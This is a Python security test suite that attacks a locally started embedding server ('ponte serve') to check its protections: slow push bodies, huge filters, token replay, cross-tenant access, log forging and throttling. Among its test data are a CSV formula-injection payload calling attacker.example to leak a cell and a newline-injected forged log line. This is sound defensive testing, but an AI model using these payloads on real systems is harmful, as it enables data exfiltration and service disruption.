"""One customer must never stop the server, and protections survive restarts.

Run by security.rs over the demo's deployment. This suite starts `ponte
serve` itself (so it can restart it, read its memory and its log) and
attacks it the way a real customer's credentials allow: huge filter lists
on every path, a restart between a login and its replay, an upper-cased
token after logout, stalled unauthenticated push bodies, a megabyte field
name, formula cells in every CSV download, another client's saved query, a
cross-tenant `sso_url`, login guessing, a forged log line, and a decimal
measure filter. Numbers are checked against DuckDB over the landing
bucket's parquet files; CSV against Python's csv module.

Usage: security_suite.py DEMO_DIR   (env: PONTE_BIN, PONTE_CONFIG, and the
secrets of common::CLIENTS, PUSH_TOKEN)
"""

import csv
import io
import os
import re
import secrets
import socket
import subprocess
import sys
import time
import traceback
import urllib.parse

import duckdb
import pyarrow.parquet as pq
import requests
from looker_signing import sign_url

DEMO = sys.argv[1]
BIN = os.environ["PONTE_BIN"]
CONFIG = os.environ["PONTE_CONFIG"]
SECRET = os.environ["PONTE_EMBED_SECRET"]
LANDING = next(os.path.join(DEMO, "data/gcs", d) for d in os.listdir(os.path.join(DEMO, "data/gcs")))
ALL = ["access_data", "see_user_dashboards", "see_looks", "explore", "download_with_limit"]

con = duckdb.connect()


def table(name):
    return f"read_parquet('{LANDING}/{name}/*.parquet')"


FATURAS = table("objeto_dados_energia_gestao_faturas_v2")


def truth(sql, *params):
    rows = con.execute(sql, list(params)).fetchall()
    return [tuple(float(v) if type(v).__name__ == "Decimal" else v for v in row) for row in rows]


# ── The server ───────────────────────────────────────────────────────────


class Server:
    """`ponte serve -v` on a free port, with its log in a file."""

    def __init__(self):
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self.base = f"http://127.0.0.1:{self.port}"
        self.host = f"127.0.0.1:{self.port}"
        self.log_path = os.path.join(DEMO, "security-serve.log")
        self.proc = None
        self.start()

    def start(self):
        log = open(self.log_path, "ab")
        self.proc = subprocess.Popen(
            [BIN, "serve", "-v", "--bind", self.host, "--config", CONFIG], stdout=subprocess.DEVNULL, stderr=log)
        deadline = time.time() + 60
        while True:
            assert self.proc.poll() is None, "ponte serve exited:\n" + self.log()
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                break
            except OSError:
                assert time.time() < deadline, "ponte serve did not listen:\n" + self.log()
                time.sleep(0.05)

    def restart(self):
        self.proc.terminate()
        self.proc.wait(timeout=60)
        self.start()

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=60)

    def alive(self):
        """The process runs and answers /healthz."""
        assert self.proc.poll() is None, "the server died:\n" + self.log()[-3000:]
        r = requests.get(f"{self.base}/healthz", timeout=30)
        assert r.status_code == 200, r.status_code

    def rss_mb(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            kb = int(re.search(r"VmRSS:\s+(\d+)", f.read()).group(1))
        return kb / 1024

    def log(self):
        with open(self.log_path, errors="replace") as f:
            return f.read()


SERVER = Server()


def url(path):
    return SERVER.base + path


def token(client="A"):
    r = requests.post(url("/api/4.0/login"), data={"client_id": os.environ[f"{client}_ID"],
                                                   "client_secret": os.environ[f"{client}_SECRET"]})
    assert r.status_code == 200, (r.status_code, r.text)
    return r.json()["access_token"]


def auth(t):
    return {"Authorization": f"token {t}"}


def run_query(t, body, fmt="json", **params):
    return requests.post(url(f"/api/4.0/queries/run/{fmt}"), json=body, headers=auth(t), params=params, timeout=120)


# ── Signing, as Looker documents it ──────────────────────────────────────


def sign(target, user, attributes, permissions=ALL, session_length=600):
    return sign_url(SERVER.base, SECRET, target, user, attributes, permissions, session_length=session_length)


def embed_login(signed_url):
    """The session cookie a signed URL starts."""
    r = requests.get(signed_url, allow_redirects=False)
    assert r.status_code == 303, (r.status_code, r.text[:300])
    return re.search(r"ponte_embed=([0-9a-f]+)", r.headers["set-cookie"]).group(1)


def as_embed(cookie, path, **kw):
    return requests.get(url(path), headers={"Cookie": f"ponte_embed={cookie}"}, allow_redirects=False,
                        timeout=120, **kw)


def customer_session(customer, permissions=ALL, user=None):
    user = user or f"user-{customer}-{secrets.token_hex(3)}"
    return embed_login(sign("/embed/dashboards/visao_geral", user, {"id_cliente": str(customer)}, permissions))


# ── Checks ───────────────────────────────────────────────────────────────


def answered(r, sizes_ok, what):
    """A long filter is answered: 200, or a 400 that names the limit."""
    if r.status_code == 200:
        return
    assert r.status_code == 400 and "at most" in r.text, (what, r.status_code, r.text[:300])
    assert len(r.text) < 4096, f"{what}: the error echoes the whole filter ({len(r.text)} bytes)"


def long_filter_lists_are_answered_and_the_server_stays_up():
    t = token()
    for n in (1_000, 5_000, 50_000):
        api_filters = {
            "number list": ("faturas.valor", ",".join(str(i) for i in range(n))),
            "negated list": ("faturas.valor", ",".join(f"NOT {i}" for i in range(n))),
            "ranges": ("faturas.valor", ",".join(f">{i}" for i in range(n))),
            "years": ("faturas.mes_referencia_year", ",".join(str(1900 + i % 200) for i in range(n))),
            "patterns": ("unidades.nome_unidade", ",".join(f"%x{i}" for i in range(n))),
            "measure": ("faturas.custo_total", ",".join(str(i) for i in range(n))),
        }
        for what, (field, expression) in api_filters.items():
            r = run_query(t, {"model": "comerc", "view": "faturas", "fields": ["faturas.custo_total"],
                              "filters": {field: expression}})
            answered(r, n, f"API {what} x{n}")
            SERVER.alive()
        cookie = customer_session(1)
        pages = {
            "dashboard units": "/embed/dashboards/visao_geral?" + urllib.parse.urlencode(
                {"Unidade": ",".join(f"%x{i}" for i in range(n))}),
            "dashboard months": "/embed/dashboards/visao_geral?" + urllib.parse.urlencode(
                {"Mês": ",".join(str(1900 + i % 200) for i in range(n))}),
            "explore": "/embed/explore/comerc/faturas?" + urllib.parse.urlencode(
                {"fields": "faturas.custo_total", "f[faturas.valor]": ",".join(f"NOT {i}" for i in range(n))}),
        }
        for what, path in pages.items():
            try:
                r = as_embed(cookie, path)
                if len(path) > 65_000:
                    # Past the longest URI the server reads: a 414 before any handler.
                    assert 400 <= r.status_code < 500, (what, n, r.status_code)
                else:
                    assert r.status_code in (200, 400), (what, n, r.status_code, r.text[:300])
                    if r.status_code == 400:
                        assert "at most" in r.text, (what, n, r.text[:300])
            except requests.ConnectionError:
                assert len(path) > 65_000, f"{what} x{n}: connection dropped"
            SERVER.alive()
    # A list of a thousand real values gives DuckDB's numbers.
    values = [v for (v,) in truth(f"SELECT DISTINCT valor_total FROM {FATURAS} WHERE id_cliente = 1 "
                                  "ORDER BY 1 LIMIT 1000")]
    assert len(values) == 1000, len(values)
    r = run_query(t, {"model": "comerc", "view": "faturas", "fields": ["faturas.custo_total", "faturas.quantidade_faturas"],
                      "filters": {"faturas.valor": ",".join(f"{v:.2f}" for v in values)}})
    assert r.status_code == 200, r.text[:300]
    got = r.json()[0]
    (total, count), = truth(f"SELECT SUM(valor_total), COUNT(*) FROM {FATURAS} WHERE id_cliente = 1 "
                            f"AND valor_total IN (SELECT DISTINCT valor_total FROM {FATURAS} WHERE id_cliente = 1 "
                            "ORDER BY 1 LIMIT 1000)")
    assert abs(got["faturas.custo_total"] - total) < 0.01 and got["faturas.quantidade_faturas"] == count, (got, total, count)


def a_restart_forgets_no_login_logout_or_session():
    signed = sign("/embed/dashboards/visao_geral", f"restart-{secrets.token_hex(3)}", {"id_cliente": "1"})
    cookie = embed_login(signed)
    t = token()
    r = requests.delete(url("/api/4.0/logout"), headers=auth(t))
    assert r.status_code == 204, r.status_code
    SERVER.restart()
    r = requests.get(signed, allow_redirects=False)
    assert r.status_code == 401 and "already used" in r.text, (r.status_code, r.text[:300])
    assert "set-cookie" not in r.headers
    r = as_embed(cookie, "/embed/dashboards/visao_geral")
    assert r.status_code == 200, ("the session outlives the restart", r.status_code, r.text[:300])
    r = requests.get(url("/api/4.0/lookml_models"), headers=auth(t))
    assert r.status_code == 401, ("a logged-out token stays out after a restart", r.status_code)
    # Embed logout ends the session, in every process sharing the state.
    r = as_embed(cookie, "/embed/logout")
    assert r.status_code == 200 and "Max-Age=0" in r.headers["set-cookie"], (r.status_code, r.headers)
    assert as_embed(cookie, "/embed/dashboards/visao_geral").status_code == 401
    SERVER.restart()
    assert as_embed(cookie, "/embed/dashboards/visao_geral").status_code == 401


def an_upper_cased_token_is_still_logged_out():
    t = token()
    payload, mac = t.rsplit(".", 1)
    assert requests.get(url("/api/4.0/lookml_models"), headers=auth(f"{payload}.{mac.upper()}")).status_code == 200
    assert requests.delete(url("/api/4.0/logout"), headers=auth(t)).status_code == 204
    for spelling in (t, f"{payload}.{mac.upper()}", f"{payload}.{mac[:10].upper()}{mac[10:]}"):
        r = requests.get(url("/api/4.0/lookml_models"), headers=auth(spelling))
        assert r.status_code == 401, (spelling[-12:], r.status_code)
    # Pages take the same tokens and the same logout.
    assert requests.get(url("/dashboards/visao_geral"), headers=auth(f"{payload}.{mac.upper()}")).status_code == 401


def stalled_unauthenticated_push_bodies_hold_nothing():
    """Twenty connections without a token start 15 MiB push bodies and
    stall: half after the headers, half after sending all they can. Each
    is answered 401 (or cut off) and closed at once, and nothing of the
    bodies stays in the server's memory."""
    import threading

    before = SERVER.rss_mb()
    length = 15 * 1024 * 1024
    head = (f"POST /pubsub/push HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Length: {length}\r\n\r\n").encode()
    outcomes = [None] * 20

    def attack(i):
        s = socket.create_connection(("127.0.0.1", SERVER.port))
        s.settimeout(5)
        s.sendall(head)
        if i % 2:
            try:
                for _ in range(14):
                    s.sendall(b"x" * (1024 * 1024))
            except OSError:
                pass  # the server answered and closed, or stopped reading
        answer, closed = b"", False
        deadline = time.time() + 15
        while time.time() < deadline:
            try:
                got = s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                closed = True  # reset: closed with the body unread
                break
            if not got:
                closed = True
                break
            answer += got
        s.close()
        outcomes[i] = (answer[:12], closed)

    threads = [threading.Thread(target=attack, args=(i,)) for i in range(20)]
    for t in threads:
        t.start()
    time.sleep(3)
    peak = SERVER.rss_mb()
    for t in threads:
        t.join()
    assert all(closed for _, closed in outcomes), outcomes
    headers_only = [answer for i, (answer, _) in enumerate(outcomes) if i % 2 == 0]
    assert all(a == b"HTTP/1.1 401" for a in headers_only), headers_only
    assert peak - before < 64, f"RSS grew from {before:.0f} to {peak:.0f} MB with 20 stalled bodies"
    # The right token still gets in, and a malformed envelope is a 400.
    r = requests.post(url("/pubsub/push"), params={"token": os.environ["PUSH_TOKEN"]}, data=b"{}")
    assert r.status_code == 400, (r.status_code, r.text[:200])
    SERVER.alive()


def a_megabyte_field_name_is_refused_at_once():
    t = token()
    name = "faturas." + "a" * 1_000_000
    for body in ({"fields": [name]}, {"fields": ["faturas.custo_total"], "sorts": [name]},
                 {"fields": ["faturas.custo_total"], "filters": {name: "1"}}):
        started = time.time()
        r = run_query(t, {"model": "comerc", "view": "faturas", **body})
        took = time.time() - started
        assert r.status_code == 400, (r.status_code, r.text[:200])
        assert len(r.text) < 4096, f"the error echoes the name ({len(r.text)} bytes)"
        # A bound, not a benchmark: the old suggestion search took seconds.
        assert took < 2, f"a megabyte name took {took:.1f} s to refuse"
    cookie = customer_session(1)
    started = time.time()
    # A URI holds at most 64 KiB (longer ones are a 414 before any handler).
    r = as_embed(cookie, "/embed/explore/comerc/faturas?fields=faturas." + "b" * 60_000)
    assert r.status_code == 400 and time.time() - started < 2, (r.status_code, time.time() - started)
    SERVER.alive()


FORMULAS = ['=HYPERLINK("https://attacker.example/?"&A2,"Clique aqui")', "+55 11 99999", "-2+3", "@SUM(A1)"]


def plant_formula_unit_names():
    """Renames four of customer 1's units to formulas in the landing bucket
    and reloads the units table: what a customer could type into a field
    that reaches the warehouse."""
    folder = os.path.join(LANDING, "objeto_unidades_atributos")
    planted = []
    for name in sorted(os.listdir(folder)):
        path = os.path.join(folder, name)
        t = pq.read_table(path)
        rows = t.to_pylist()
        changed = False
        for row in rows:
            if row["id_cliente"] == 1 and len(planted) < len(FORMULAS):
                row["nome_unidade"] = FORMULAS[len(planted)]
                planted.append(row["id_unidade"])
                changed = True
        if changed:
            pq.write_table(type(t).from_pylist(rows, schema=t.schema), path)
        if len(planted) == len(FORMULAS):
            break
    assert len(planted) == len(FORMULAS), planted
    function = "cf_carrega_tabela_objeto_unidades_atributos"
    out = subprocess.run([BIN, "load", function, "--config", CONFIG], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr


def assert_neutralised(text, where):
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells, (where, formula, rows[:5])
    for c in cells:
        if c[:1] in ("=", "+", "@", "\t", "\r"):
            raise AssertionError(f"{where}: a formula cell went out as is: {c!r}")
        if c.startswith("-"):
            float(c)  # only numbers may start with a minus
    return rows


def every_csv_download_neutralises_formulas():
    plant_formula_unit_names()
    t = token()
    names = {"model": "comerc", "view": "faturas", "fields": ["unidades.nome_unidade", "faturas.custo_total"],
             "limit": "5000"}
    assert_neutralised(run_query(t, names, "csv").text, "API inline csv")
    assert_neutralised(run_query(t, {**names, "limit": "-1"}, "csv").text, "API inline csv, every row (streamed)")
    saved = requests.post(url("/api/4.0/queries"), json=names, headers=auth(t)).json()
    r = requests.get(url(f"/api/4.0/queries/{saved['id']}/run/csv"), headers=auth(t))
    assert_neutralised(r.text, "API saved query csv")
    assert_neutralised(requests.get(url("/api/4.0/looks/1/run/csv"), headers=auth(t), params={"limit": 5000}).text,
                       "API look csv")
    unlimited = ALL + ["download_without_limit"]
    cookie = customer_session(1, permissions=unlimited)
    for path in ["/embed/looks/1/download/csv", "/embed/dashboards/visao_geral/tiles/6/download/csv",
                 "/embed/explore/comerc/faturas/download/csv?fields=unidades.nome_unidade,faturas.custo_total"]:
        r = as_embed(cookie, path)
        assert r.status_code == 200, (path, r.status_code, r.text[:300])
        assert_neutralised(r.text, path)
    r = requests.get(url("/looks/1/download/csv"), headers=auth(t))
    assert r.status_code == 200, r.text[:300]
    assert_neutralised(r.text, "API client's look download")


def another_clients_saved_query_is_not_found():
    a, b = token("A"), token("B")
    body = {"model": "comerc", "view": "faturas", "fields": ["faturas.custo_total"],
            "filters": {"unidades.nome_unidade": "Confidencial%"}}
    first = requests.post(url("/api/4.0/queries"), json=body, headers=auth(a)).json()
    again = requests.post(url("/api/4.0/queries"), json=body, headers=auth(a)).json()
    assert first["id"] == again["id"], "the same body keeps its id"
    other = requests.post(url("/api/4.0/queries"), json={**body, "limit": "7"}, headers=auth(a)).json()
    assert not re.fullmatch(r"\d+", first["id"]), first["id"]
    assert first["id"] != other["id"]
    for path in (f"/api/4.0/queries/{first['id']}", f"/api/4.0/queries/{first['id']}/run/json"):
        r = requests.get(url(path), headers=auth(b))
        assert r.status_code == 404, (path, r.status_code, r.text[:200])
        assert "Confidencial" not in r.text
        assert requests.get(url(path), headers=auth(a)).status_code == 200, path
    # B saving the same body gets its own id.
    mine = requests.post(url("/api/4.0/queries"), json=body, headers=auth(b)).json()
    assert mine["id"] != first["id"]


def a_client_cannot_end_another_tenants_embed_session():
    victim = f"maria-{secrets.token_hex(3)}@cliente-2"
    cookie = embed_login(sign("/embed/dashboards/visao_geral", victim, {"id_cliente": "2"}))
    assert as_embed(cookie, "/embed/dashboards/visao_geral").status_code == 200
    # Client A (customer 1) signs a URL for customer 2's user id, with its own attributes.
    r = requests.post(url("/api/4.0/embed/sso_url"), headers=auth(token("A")), json={
        "target_url": SERVER.base + "/embed/dashboards/visao_geral", "external_user_id": victim,
        "permissions": ALL, "models": ["comerc"], "user_attributes": {"id_cliente": "1"}})
    assert r.status_code == 200, r.text[:300]
    attacker = embed_login(r.json()["url"])
    assert as_embed(attacker, "/embed/dashboards/visao_geral").status_code == 200
    r = as_embed(cookie, "/embed/dashboards/visao_geral")
    assert r.status_code == 200, ("the victim's session survives another tenant's login", r.status_code)
    # A new login signed by the portal for the same user still replaces the portal's session.
    embed_login(sign("/embed/dashboards/visao_geral", victim, {"id_cliente": "2"}))
    assert as_embed(cookie, "/embed/dashboards/visao_geral").status_code == 401


def a_newline_in_a_logged_value_cannot_forge_a_line():
    forged = "2026-01-01T00:00:00.000000Z  INFO embed session started user=admin"
    embed_login(sign("/embed/dashboards/visao_geral", f"evil\n{forged}\r\n", {"id_cliente": "1"}))
    time.sleep(0.2)
    log = SERVER.log()
    assert "evil\\n2026-01-01" in log, log[-2000:]
    assert not any(line.startswith("2026-01-01T00:00:00.000000Z") for line in log.splitlines()), log[-2000:]


def a_decimal_measure_filter_matches_duckdb():
    """Filters on a sum of DECIMAL(18,2) amounts, at thresholds taken from
    the data so that each keeps some units and drops others."""
    t = token()
    sums = sorted(s for _, s in truth(f"SELECT id_unidade, SUM(valor_total) FROM {FATURAS} WHERE id_cliente = 1 "
                                      "GROUP BY 1"))
    low, mid, high = (sums[len(sums) * k // 4] for k in (1, 2, 3))
    for expression, having in ((f">{int(mid)}", f"> {int(mid)}"), (f"<={mid:.2f}", f"<= {mid:.2f}"),
                               (f"[{low:.2f},{high:.2f}]", f"BETWEEN {low:.2f} AND {high:.2f}"),
                               (f"NOT {mid:.2f}", f"<> {mid:.2f}")):
        r = run_query(t, {"model": "comerc", "view": "faturas", "fields": ["faturas.id_unidade", "faturas.custo_total"],
                          "filters": {"faturas.custo_total": expression}, "limit": "5000"}, cache="false")
        assert r.status_code == 200, (expression, r.status_code, r.text[:300])
        got = sorted((row["faturas.id_unidade"], round(row["faturas.custo_total"], 2)) for row in r.json())
        expected = sorted((u, round(s, 2)) for u, s in truth(
            f"SELECT id_unidade, SUM(valor_total) FROM {FATURAS} WHERE id_cliente = 1 GROUP BY 1 "
            f"HAVING SUM(valor_total) {having}"))
        assert got == expected and 0 < len(got) < len(sums) + (expression.startswith("NOT")), \
            (expression, len(got), len(expected), got[:3], expected[:3])


def logins_are_throttled_and_secrets_stay_out_of_urls():
    r = requests.post(url("/api/4.0/login"), params={"client_id": os.environ["A_ID"],
                                                     "client_secret": os.environ["A_SECRET"]})
    assert r.status_code == 400 and "body" in r.text, (r.status_code, r.text[:200])
    statuses = []
    for _ in range(15):
        r = requests.post(url("/api/4.0/login"), data={"client_id": os.environ["B_ID"], "client_secret": "guess"})
        statuses.append(r.status_code)
    assert statuses[:10] == [404] * 10, statuses
    assert set(statuses[10:]) == {429}, statuses
    assert int(r.headers["retry-after"]) >= 1, r.headers
    # While throttled, even the right secret waits: guessing cannot go faster.
    r = requests.post(url("/api/4.0/login"), data={"client_id": os.environ["A_ID"],
                                                   "client_secret": os.environ["A_SECRET"]})
    assert r.status_code == 429, r.status_code
    time.sleep(int(r.headers["retry-after"]))
    assert requests.post(url("/api/4.0/login"), data={"client_id": os.environ["A_ID"],
                                                      "client_secret": os.environ["A_SECRET"]}).status_code == 200


def a_million_row_download_streams_in_bounded_memory():
    """Every invoice of a demo of a million, downloaded by a client whose
    attribute lists every customer: the CSV streams out as the warehouse
    produces it. What remains in memory is the engine's grouping and
    sorting of the rows (Looker's SQL groups by every dimension), not the
    rows as JSON values and text (about 2 GB before)."""
    import threading

    t = token()
    before = SERVER.rss_mb()
    peak, done = [before], []

    def sample():
        while not done:
            peak[0] = max(peak[0], SERVER.rss_mb())
            time.sleep(0.05)

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        r = requests.get(url("/explore/comerc/faturas/download/csv"), headers=auth(t), stream=True, timeout=600,
                         params={"fields": "faturas.id_fatura,faturas.valor", "limit": "-1"})
        assert r.status_code == 200, (r.status_code, r.text[:300])
        lines, total, ids = 0, 0.0, set()
        for line in r.iter_lines(chunk_size=1 << 16, delimiter=b"\r\n"):
            if not line:
                continue
            lines += 1
            if lines > 1:
                invoice, value = line.decode().split(",")
                ids.add(int(invoice))
                total += float(value or 0)
    finally:
        done.append(True)
        sampler.join()
    (count, expected), = truth(f"SELECT COUNT(*), SUM(valor_total) FROM {FATURAS}")
    assert lines - 1 == count == len(ids) == 1_000_000, (lines, count, len(ids))
    assert abs(total - expected) < 1, (total, expected)
    grown = peak[0] - before
    print(f"      a million rows: RSS {before:.0f} -> {peak[0]:.0f} MB", flush=True)
    assert grown < 350, f"RSS grew by {grown:.0f} MB for one download"
    SERVER.alive()


CHECKS = [
    long_filter_lists_are_answered_and_the_server_stays_up,
    a_restart_forgets_no_login_logout_or_session,
    an_upper_cased_token_is_still_logged_out,
    stalled_unauthenticated_push_bodies_hold_nothing,
    a_megabyte_field_name_is_refused_at_once,
    every_csv_download_neutralises_formulas,
    another_clients_saved_query_is_not_found,
    a_client_cannot_end_another_tenants_embed_session,
    a_newline_in_a_logged_value_cannot_forge_a_line,
    a_decimal_measure_filter_matches_duckdb,
    # Last: it leaves this address throttled for a while.
    logins_are_throttled_and_secrets_stay_out_of_urls,
]

if os.environ.get("SECURITY_SUITE") == "million":
    CHECKS = [a_million_row_download_streams_in_bounded_memory]
only = os.environ.get("SECURITY_ONLY")
failed = 0
try:
    for check in CHECKS:
        if only and only not in check.__name__:
            continue
        try:
            check()
            print(f"ok    {check.__name__}", flush=True)
        except Exception:
            failed += 1
            print(f"FAIL  {check.__name__}", flush=True)
            traceback.print_exc()
finally:
    SERVER.stop()
    print("--- server log (tail) ---")
    print(SERVER.log()[-4000:])
if failed:
    sys.exit(f"{failed} check(s) failed")
print("all checks passed")
